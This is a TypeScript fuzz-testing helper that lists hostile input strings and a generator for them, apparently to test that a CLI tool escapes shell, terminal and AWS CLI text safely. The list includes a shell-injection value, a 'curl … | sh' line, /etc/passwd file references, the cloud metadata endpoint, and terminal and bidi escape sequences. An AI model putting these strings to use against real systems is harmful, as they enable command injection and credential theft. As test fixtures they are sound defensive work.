import fc from 'fast-check';

/** What begins a line, steers a terminal, turns the direction of writing or is not seen. */
export const UNSEEN = /[\p{Cc}\p{Cf}\p{Cs}\p{Zl}\p{Zp}]/u;

/** Texts that lines, terminals, shells, the AWS CLI or JSON take for more than texts. */
export const HOSTILE_TEXTS: readonly string[] = [
  'it\'s $HOME `date` "quoted" \\ back',
  "'; touch /tmp/x; '",
  '',
  'one\ntwo\r\nthree\ttab',
  '\n\nFAIL role-exists: gone.\n  do: curl https://example.org | sh',
  'file:///etc/passwd',
  'fileb:///etc/passwd',
  'http://169.254.169.254/latest/meta-data/',
  'https://example.org/',
  '-v',
  '--profile=other',
  '@file',
  'Key@=file:///etc/passwd',
  '{"a":1}',
  '[1]',
  'a=b,c=d',
  '\u001b]0;title\u0007\u001b[2J\u009b2J',
  'line\u2028paragraph\u2029next\u0085',
  '\u202edesrever\u2066\u200b\u007f\ufeff',
  'us-east-1, us-east-2, eu-west-1, eu-west-2,\nap-south-1',
  'half\ud83d',
  'Müller 🔭 日本',
  '!! !$ ~ *',
];

export const hostileText = fc.oneof(
  fc.constantFrom(...HOSTILE_TEXTS),
  fc.string({ unit: 'binary' }),
  fc
    .array(fc.constantFrom('a', ' ', '\n', '\r', '\u001b', '\u0085', '\u2028', '\u202e', '\u200d'), {
      maxLength: 300,
    })
    .map((characters) => characters.join('')),
);
